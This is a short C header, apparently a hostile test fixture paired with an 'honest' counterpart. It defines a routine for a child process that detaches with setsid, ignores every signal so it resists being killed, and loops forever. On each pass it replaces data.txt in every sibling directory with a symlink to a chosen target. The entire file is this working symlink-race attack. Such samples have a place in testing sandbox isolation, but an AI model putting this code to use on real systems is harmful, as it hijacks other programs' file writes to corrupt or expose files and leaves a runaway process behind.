/* What a child does that wants to outlive its run: it puts links where files will be written. Include honest.h first. */
#ifndef RACE_H
#define RACE_H

#include <dirent.h>

/* Puts a link in place of every data.txt beside its own directory, for ever. */
__attribute__((noreturn)) static void race(const char *target)
{
    char path[512];

    setsid();
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    for (;;) {
        DIR *all = opendir("..");
        struct dirent *one;
        while (all != NULL && (one = readdir(all)) != NULL) {
            snprintf(path, sizeof path, "../%s/data.txt", one->d_name);
            unlink(path);
            if (symlink(target, path) == -1)
                continue;
        }
        if (all != NULL)
            closedir(all);
    }
}

#endif
